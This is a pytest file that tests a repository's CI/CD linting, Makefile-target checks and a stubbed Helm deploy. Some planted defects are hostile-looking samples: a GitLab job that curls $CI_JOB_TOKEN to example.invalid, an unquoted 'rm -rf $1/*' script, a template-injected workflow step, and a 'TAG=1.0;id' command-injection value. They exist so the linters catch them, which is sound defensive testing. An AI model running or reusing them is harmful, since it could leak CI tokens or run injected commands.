"""make test-pipelines: every check of the CI/CD definitions, offline.

  1. The linters on this repository: actionlint (+shellcheck on run: scripts),
     zizmor --offline, checkov (github_actions, gitlab_ci, checkov_gate.py),
     yamllint --strict, shellcheck on the scripts; zero findings.
  2. check_make_targets.py: each `make` in the workflows and .gitlab-ci.yml names
     an existing target, no project logic runs inline, ci.yml covers TEST_TARGETS.
  3. helm-deploy with helm replaced by a stub that records its arguments.
  4. Each check of 1 and 2 run on a deliberately broken copy must fail, naming the
     planted defect, so a check that silently stopped checking is caught.
Release versioning: scripts/release/test_release.py.
"""

from __future__ import annotations

import functools
import os
import re
import subprocess
from pathlib import Path

import pytest

import check_make_targets
import checkov_gate
from harness import ROOT, assert_none

pytestmark = pytest.mark.pipelines

LINTERS = ["actionlint", "zizmor", "checkov", "yamllint", "shellcheck"]
PRUNED = {".git", ".tools", ".swiftpm", "node_modules"}


def workflows(root: Path) -> list[Path]:
    return sorted(p for p in (root / ".github" / "workflows").glob("*.y*ml") if p.is_file())


def yaml_files(root: Path) -> list[Path]:
    """YAML the project owns: git's view in a work tree (tracked and new files, minus ignored
    output), else a walk pruning the same; Helm templates are Go templates, not YAML."""
    git = subprocess.run(["git", "-C", str(root), "ls-files", "-z", "-co", "--exclude-standard", "--", "*.yml", "*.yaml",
                          ".yamllint"], capture_output=True, text=True)
    if git.returncode == 0 and (root / ".git").exists():
        found = [root / f for f in git.stdout.split("\0") if f and (root / f).exists()]
    else:
        found = []
        for d, dirs, files in os.walk(root):
            dirs[:] = [x for x in dirs if x not in PRUNED and not x.startswith(".build")]
            found += [Path(d) / f for f in files if f.endswith((".yml", ".yaml")) or f == ".yamllint"]
    return sorted(f for f in found if not re.search(r"/deploy/helm/[^/]+/templates/", str(f)))


@pytest.fixture(scope="module")
def lint(tools):
    """lint(tool, root) -> (passed, output) of one linter over a repository tree."""
    env = os.environ | {"PATH": f"{tools.venv_bin}{os.pathsep}{os.environ['PATH']}"}

    @functools.cache
    def run(tool: str, root: Path) -> tuple[bool, str]:
        wf = workflows(root)
        assert wf, f"no workflows under {root}/.github/workflows"
        if tool == "checkov":
            return checkov_gate.gate(tools.checkov, root, wf + [p for p in [root / ".gitlab-ci.yml"] if p.is_file()])
        cmd = {
            "actionlint": [tools.actionlint, "-no-color", f"-shellcheck={tools.shellcheck}", *(str(p.relative_to(root)) for p in wf)],
            "zizmor": [tools.zizmor, "--offline", "--no-progress", "--color=never", *map(str, wf + sorted(root.glob(".github/dependabot.y*ml")))],
            "yamllint": [tools.yamllint, "--strict", "--format", "parsable", "-c", str(root / ".yamllint"), *map(str, yaml_files(root))],
            "shellcheck": [tools.shellcheck, "-x", *(str(p.relative_to(root)) for p in sorted(root.glob("scripts/**/*.sh")))],
        }[tool]
        proc = subprocess.run(cmd, cwd=root, env=env, capture_output=True, text=True)
        return proc.returncode == 0, proc.stdout + proc.stderr

    return run


@pytest.mark.parametrize("tool", LINTERS)
def test_no_findings(tool, lint):
    passed, output = lint(tool, ROOT)
    assert passed, output


def test_pipelines_call_existing_make_targets_only():
    found = check_make_targets.check(ROOT)
    assert found.calls, "no make call found in the pipelines"
    assert_none(found.errors)


# --- every check fails on a broken copy ---------------------------------------

BROKEN_WORKFLOW = """name: broken
on: push
permissions: write-all
jobs:
  broken:
    runs-on: ubuntu-24.04
    needs: no-such-job
    steps:
      - uses: actions/checkout@v4
      - run: echo "${{ github.event.head_commit.message }}"
      - run: ls $HOME
      - run: make no-such-target
      - run: swift build 
"""
# A real GitHub permission (models) that checkov's bundled schema does not know:
# checkov skips such a workflow without a word; the gate must notice.
UNPARSABLE_WORKFLOW = """name: unparsable
on: push
permissions: {}
jobs:
  x:
    runs-on: ubuntu-24.04
    permissions:
      models: read
    steps:
      - run: echo hi
"""
LEAKING_GITLAB_JOB = """
leak:
  stage: test
  script:
    - curl --data "$CI_JOB_TOKEN" https://example.invalid/collect
    - make no-such-gitlab-target
"""


@pytest.fixture(scope="module")
def broken(repo_copy) -> Path:
    """A copy of the repository with one planted defect per check."""
    root = repo_copy("broken")
    (root / ".github/workflows/broken.yml").write_text(BROKEN_WORKFLOW)
    (root / ".github/workflows/unparsable.yml").write_text(UNPARSABLE_WORKFLOW)
    with open(root / ".gitlab-ci.yml", "a") as f:
        f.write(LEAKING_GITLAB_JOB)
    (root / "scripts/pipelines/broken.sh").write_text("#!/usr/bin/env bash\nrm -rf $1/*\n")
    with open(root / "mk/pipelines.mk", "a") as f:
        f.write("\nTEST_TARGETS += test-not-in-ci\ntest-not-in-ci:\n\t@true\n")
    return root


@pytest.mark.parametrize("tool, defect", [
    ("actionlint", "no-such-job"),  # a job needing a missing job
    ("actionlint", "SC2086"),  # shellcheck on run: scripts
    ("zizmor", "unpinned-uses"),
    ("zizmor", "template-injection"),
    ("checkov", "CKV2_GHA_1"),  # write-all permissions
    ("checkov", "CKV_GITLABCI_1"),  # curl with CI variables
    ("checkov", "unparsable.yml was not checked"),
    ("yamllint", "trailing-spaces"),
    ("shellcheck", "SC2086"),
])
def test_linter_catches(tool, defect, lint, broken):
    passed, output = lint(tool, broken)
    assert not passed and defect in output, output


@functools.cache
def broken_make_findings(root: Path) -> str:
    return "\n".join(check_make_targets.check(root).errors)


@pytest.mark.parametrize("defect", [
    r"no-such-target. does not exist", r"no-such-gitlab-target. does not exist",
    r"runs Swift build/test/format inline", r"runs test-not-in-ci .* no ci.yml job",
])
def test_make_target_check_catches(defect, broken):
    assert re.search(defect, broken_make_findings(broken)), broken_make_findings(broken)


# --- helm-deploy ----------------------------------------------------------------

HELM_STUB = """#!/usr/bin/env bash
# Helm 4's upgrade --help mentions --rollback-on-failure; record every other call.
if [[ "$1 $2" == "upgrade --help" ]]; then echo "      --rollback-on-failure   roll back on failure"; exit 0; fi
printf '%s\\n' "$*" >>"$HELM_STUB_LOG"
"""


@pytest.fixture(scope="module")
def helm_deploy(tmp_path_factory):
    """helm_deploy(*make args, **env) -> (make result, recorded helm calls), helm being a stub."""
    work = tmp_path_factory.mktemp("helm-deploy")
    (work / "bin").mkdir()
    (work / "bin" / "helm").write_text(HELM_STUB)
    (work / "bin" / "helm").chmod(0o755)
    (work / "kubeconfig").write_text("apiVersion: v1\nkind: Config\n")

    def run(*args: str, **env: str) -> tuple[subprocess.CompletedProcess, list[str]]:
        log = work / f"calls-{len(list(work.glob('calls-*')))}.log"
        log.touch()
        full_env = os.environ | {"PATH": f"{work / 'bin'}{os.pathsep}{os.environ['PATH']}", "KUBECONFIG": str(work / "kubeconfig"),
                                 "HELM_STUB_LOG": str(log)} | env
        proc = subprocess.run(["make", "--no-print-directory", "-C", str(ROOT), "helm-deploy", *args], env=full_env,
                              capture_output=True, text=True)
        return proc, log.read_text().splitlines()

    return run


@pytest.fixture(scope="module")
def deployed(helm_deploy):
    return helm_deploy("DEPLOY_ENV=dev", "TAG=1.2.3", "IMAGE_REPOSITORY=ghcr.io/example/userapi",
                       "HELM_VALUES=deploy/helm/userapi/values.yaml")


def test_helm_deploy_runs_upgrade_then_test(deployed):
    proc, calls = deployed
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert [c.split()[0] for c in calls] == ["upgrade", "test", "status"], calls
    assert calls[1].startswith("test userapi --namespace userapi-dev"), calls


@pytest.mark.parametrize("want", [
    f"--install userapi {ROOT}/deploy/helm/userapi", "--namespace userapi-dev", "--wait", "--rollback-on-failure",
    "--set-string image.tag=1.2.3", "--set-string image.repository=ghcr.io/example/userapi",
    f"--values {ROOT}/deploy/helm/userapi/values.yaml",
])
def test_helm_upgrade_has(want, deployed):
    upgrade = [c for c in deployed[1] if c.startswith("upgrade ")]
    assert upgrade and want in upgrade[0], upgrade


@pytest.mark.parametrize("args, env, expected", [
    (["DEPLOY_ENV=dev", "TAG=1.0;id"], {}, "TAG must be an image tag"),
    (["DEPLOY_ENV=dev", "TAG=1.2.3"], {"KUBECONFIG": ""}, "KUBECONFIG must name"),
], ids=["tag that is not an image tag", "missing kubeconfig"])
def test_helm_deploy_refuses(args, env, expected, helm_deploy):
    proc, calls = helm_deploy(*args, **env)
    assert proc.returncode != 0 and expected in proc.stderr and not calls, proc.stdout + proc.stderr
